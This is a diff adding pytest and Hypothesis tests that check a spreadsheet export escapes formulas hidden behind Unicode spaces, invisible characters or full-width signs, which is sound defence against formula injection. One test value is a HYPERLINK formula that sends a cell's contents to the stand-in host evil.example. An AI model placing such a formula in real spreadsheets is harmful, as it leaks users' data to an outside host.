@@ -4,11 +4,14 @@
 import csv
 import io
 import re
+import unicodedata
 from decimal import Decimal
 from pathlib import Path
 
 import pytest
 from django.urls import reverse
+from hypothesis import given
+from hypothesis import strategies as st
 
 from tests import factories
 from tests.tournaments.helpers import play
@@ -40,6 +43,88 @@ def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value):
 @pytest.mark.parametrize("value", [" =1+1", "  @SUM(A1)", "\n=1", "\0=1"])
 def test_a_formula_behind_spaces_or_a_control_character_is_written_as_text(value):
     assert exports.spreadsheet_cell(value) == "'" + value
+
+
+# What a formula may hide behind, that a check of the ASCII space misses: the no-break space,
+# the spaces of typesetting and the ideographic one, zero-width ones, the byte order mark, the
+# marks of the writing direction, line and paragraph separators, other controls.
+UNICODE_BLANKS = [
+    "\u00a0",
+    "\u2000",
+    "\u2007",
+    "\u200a",
+    "\u200b",
+    "\u202f",
+    "\u205f",
+    "\u3000",
+    "\ufeff",
+    "\u200e",
+    "\u2066",
+    "\u2028",
+    "\u2029",
+    "\x0b",
+    "\x0c",
+    "\x1f",
+    "\x85",
+    " \u00a0\t",
+]
+# What starts a formula: the ASCII signs, their full-width and small forms, the minus sign.
+FORMULA_SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫\u2212⁼⁻"
+
+
+@pytest.mark.parametrize("blank", UNICODE_BLANKS)
+def test_a_formula_behind_a_unicode_space_or_invisible_character_is_written_as_text(blank):
+    value = blank + '=HYPERLINK("https://evil.example/?"&A1;"Details")'
+    assert exports.spreadsheet_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("sign", FORMULA_SIGNS)
+def test_a_full_width_or_other_formula_sign_is_written_as_text(sign):
+    assert exports.spreadsheet_cell(sign + "1+1") == "'" + sign + "1+1"
+    assert exports.spreadsheet_cell("\u3000" + sign + "1") == "'\u3000" + sign + "1"
+
+
+@pytest.mark.parametrize(
+    "value", ["\u00a0Müller", "\u200bO'Brien", "\u3000東京", "Anna\u00a0=1", "\ufeff"]
+)
+def test_a_harmless_text_behind_a_unicode_space_is_written_as_it_is(value):
+    assert exports.spreadsheet_cell(value) == value
+
+
+# The characters a spreadsheet may pass over before it reads a formula: Unicode's separators
+# (every space among them) and its controls and format characters.
+INVISIBLE = st.characters(categories=("Zs", "Zl", "Zp", "Cc", "Cf"))
+
+
+def reads_as_formula(text: str) -> bool:
+    """A spreadsheet at its most generous: it drops every whitespace and invisible character
+    from the start of a cell and reads a formula from a sign in any width."""
+    visible = next((c for c in text if not (c.isspace() or unicodedata.category(c)[0] in "ZC")), "")
+    return text[:1] in ("\t", "\r", "\n", "\0") or (
+        unicodedata.normalize("NFKC", visible)[:1] in tuple("=+-@\u2212")
+    )
+
+
+@given(blanks=st.text(INVISIBLE), sign=st.sampled_from(FORMULA_SIGNS), rest=st.text())
+def test_no_formula_behind_any_invisible_characters_leaves_the_writer(blanks, sign, rest):
+    """The law: no cell a spreadsheet reads as a formula leaves the writer."""
+    value = blanks + sign + rest
+    assert exports.spreadsheet_cell(value) == "'" + value
+
+
+@given(st.text())
+def test_the_writer_only_ever_adds_a_quotation_mark_to_a_formula(text):
+    cell = exports.spreadsheet_cell(text)
+    assert cell == ("'" + text if reads_as_formula(text) else text)
+
+
+@given(
+    blanks=st.text(st.characters(categories=("Zs", "Cf"))),
+    first=st.characters(categories=("L", "N")),
+    rest=st.text(),
+)
+def test_a_name_behind_any_spaces_is_written_as_it_is(blanks, first, rest):
+    assert exports.spreadsheet_cell(blanks + first + rest) == blanks + first + rest
 
 
 @pytest.mark.parametrize("value", ["Müller", "1+1", "Doko & Co.", "", "'quoted", "E-Mail"])
